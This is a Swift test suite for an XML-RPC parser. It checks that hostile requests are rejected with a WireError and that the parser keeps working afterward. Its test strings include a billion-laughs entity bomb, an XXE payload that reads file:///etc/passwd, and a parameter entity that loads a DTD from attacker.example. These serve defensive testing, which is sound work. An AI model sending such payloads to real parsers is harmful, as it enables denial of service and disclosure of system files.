import Testing
import XapiDB
@testable import Codec

/// The bad-input set from issue #2: every one of these must end in a `WireError` (HTTP 500),
/// quickly, without crashing, and the next request must parse normally.
@Suite struct HostileInputTests {
    private func parse(_ bytes: [UInt8]) throws(WireError) -> MethodCall { try XMLRPC.parseCall(bytes) }
    private func parse(_ text: String) throws(WireError) -> MethodCall { try parse(Array(text.utf8)) }

    private static func call(_ value: String) -> String {
        "<methodCall><methodName>m</methodName><params><param>\(value)</param></params></methodCall>"
    }

    @Test func billionLaughs() {
        var doc = "<?xml version=\"1.0\"?>\n<!DOCTYPE lolz [\n <!ENTITY lol \"lol\">\n"
        doc += " <!ENTITY lol1 \"" + String(repeating: "&lol;", count: 10) + "\">\n"
        for i in 2...9 {
            doc += " <!ENTITY lol\(i) \"" + String(repeating: "&lol\(i - 1);", count: 10) + "\">\n"
        }
        doc += "]>\n" + Self.call("<value>&lol9;</value>")
        #expect(throws: WireError.forbidden(offset: 22, reason: "DOCTYPE declarations are not accepted")) {
            try parse(doc)
        }
        // Without the DOCTYPE the reference is simply unknown.
        #expect(throws: WireError.self) { try parse(Self.call("<value>&lol9;</value>")) }
    }

    @Test func externalEntities() {
        let xxe = "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>"
            + Self.call("<value>&x;</value>")
        #expect(throws: WireError.self) { try parse(xxe) }
        let parameterEntity = "<!DOCTYPE r [<!ENTITY % p SYSTEM \"http://attacker.example/evil.dtd\"> %p;]>"
            + Self.call("<value/>")
        #expect(throws: WireError.self) { try parse(parameterEntity) }
        #expect(throws: WireError.self) { try parse("<!DOCTYPE methodCall SYSTEM \"http://example.com/x.dtd\">" + Self.call("<value/>")) }
        #expect(throws: WireError.self) { try parse("<!ENTITY x \"y\">" + Self.call("<value/>")) }
    }

    @Test func undeclaredEntityReferencesAreRefused() {
        for text in ["&nbsp;", "&x;", "&lol9;", "&LT;", "&amp", "& amp;"] {
            #expect(throws: WireError.self) { try parse(Self.call("<value>\(text)</value>")) }
        }
        #expect(throws: WireError.forbidden(offset: 60, reason: "entity reference &nbsp; (only the predefined entities are accepted)")) {
            try parse(Self.call("<value>&nbsp;</value>"))
        }
    }

    @Test func deepNesting() throws {
        func nested(_ depth: Int) -> String {
            String(repeating: "<value><array><data>", count: depth) + "<value>x</value>"
                + String(repeating: "</data></array></value>", count: depth)
        }
        let atLimit = try parse(Self.call(nested(XMLRPC.maxDepth)))
        var v = atLimit.params[0]
        var levels = 0
        while case .array(let a) = v { v = a[0]; levels += 1 }
        #expect(levels == XMLRPC.maxDepth)
        #expect(throws: WireError.self) { try parse(Self.call(nested(XMLRPC.maxDepth + 1))) }
        // A hostile depth must fail fast at the limit, not recurse 100,000 times.
        let structs = String(repeating: "<value><struct><member><name>a</name>", count: 100_000)
        let clock = ContinuousClock()
        let elapsed = clock.measure {
            #expect(throws: WireError.self) { try parse(Self.call(structs)) }
        }
        #expect(elapsed < .seconds(2))
    }

    @Test func invalidUTF8Everywhere() {
        let good = Array(Self.call("<value>abc</value>").utf8)
        let badSequences: [[UInt8]] = [
            [0xFF], [0xC0, 0xAF], [0xE0, 0x80, 0xAF], [0xED, 0xA0, 0x80], [0xF4, 0x90, 0x80, 0x80],
            [0xC3], [0xE2, 0x82], [0x80], [0xF8, 0x88, 0x80, 0x80, 0x80],
        ]
        for bad in badSequences {
            // In text.
            var inText = good
            inText.insert(contentsOf: bad, at: good.firstIndex(of: UInt8(ascii: "b"))!)
            #expect(throws: WireError.self) { try parse(inText) }
            // In a member name, an attribute, a comment and the method name.
            for template in [
                Self.call("<value><struct><member><name>k@</name><value/></member></struct></value>"),
                Self.call("<value a=\"@\">x</value>"),
                Self.call("<value>x<!-- @ --></value>"),
                "<methodCall><methodName>m@</methodName><params/></methodCall>",
                Self.call("<value><![CDATA[@]]></value>"),
            ] {
                var bytes: [UInt8] = []
                for b in template.utf8 { if b == UInt8(ascii: "@") { bytes += bad } else { bytes.append(b) } }
                #expect(throws: WireError.self) { try parse(bytes) }
            }
        }
        var bad = good
        bad.insert(0xFF, at: 30)
        #expect(throws: WireError.invalidUTF8(offset: 30)) { try parse(bad) }
    }

    @Test func hugeNumbers() throws {
        let digits = String(repeating: "9", count: 100_000)
        #expect(throws: WireError.self) { try parse(Self.call("<value><int>\(digits)</int></value>")) }
        #expect(throws: WireError.self) { try parse(Self.call("<value><i4>-\(digits)</i4></value>")) }
        // A huge double literal is still a double (OCaml's float_of_string reads it as inf).
        #expect(try parse(Self.call("<value><double>1\(digits)</double></value>"))
            == MethodCall(name: "m", params: [.double(.infinity)]))
        #expect(throws: WireError.self) { try parse(Self.call("<value><double>1e</double></value>")) }
        // A huge character reference saturates instead of overflowing.
        #expect(throws: WireError.self) { try parse(Self.call("<value>&#\(digits);</value>")) }
        #expect(throws: WireError.self) { try parse(Self.call("<value>&#x\(digits);</value>")) }
    }

    /// Every proper prefix of a real request is refused; the whole one is accepted.
    @Test(arguments: [Fixtures.loginRequest, Fixtures.setOtherConfigRequest, Fixtures.eventFromRequest])
    func truncatedAtEveryLength(document: String) throws {
        let bytes = Array(document.utf8)
        // The trailing newline is optional; anything shorter than the root's end tag is not.
        let rootEnd = document.utf8.count - (document.hasSuffix("\n") ? 1 : 0)
        for length in 0..<rootEnd {
            #expect(throws: WireError.self, "prefix of \(length) bytes") { try parse(Array(bytes[0..<length])) }
        }
        #expect(try parse(Array(bytes[0..<rootEnd])) == parse(bytes))
    }

    @Test func truncationIsReportedAsSuch() {
        let bytes = Array(Fixtures.loginRequest.utf8)
        for length in [1, 30, 100, 200, 300] {
            do {
                _ = try parse(Array(bytes[0..<length]))
                Issue.record("prefix \(length) accepted")
            } catch {
                guard case .truncated = error else {
                    Issue.record("prefix \(length): \(error) (\(String(decoding: bytes[0..<length], as: UTF8.self).debugDescription))")
                    continue
                }
            }
        }
    }

    @Test func parserKeepsWorkingAfterErrors() throws {
        let hostile: [[UInt8]] = [
            [0xFF, 0xFE, 0x00], Array("<!DOCTYPE x>".utf8), Array("<methodCall>".utf8), [],
            Array(String(repeating: "<", count: 10_000).utf8),
        ]
        for body in hostile {
            #expect(throws: WireError.self) { try parse(body) }
            #expect(try parse(Fixtures.loginRequest).name == "session.login_with_password")
        }
    }

    @Test func controlCharactersInTextAreRefused() {
        for scalar in [0x00, 0x01, 0x08, 0x0B, 0x0C, 0x1F] as [UInt8] {
            var bytes = Array(Self.call("<value>ab</value>").utf8)
            bytes.insert(scalar, at: 61)
            #expect(throws: WireError.self) { try parse(bytes) }
        }
    }
}
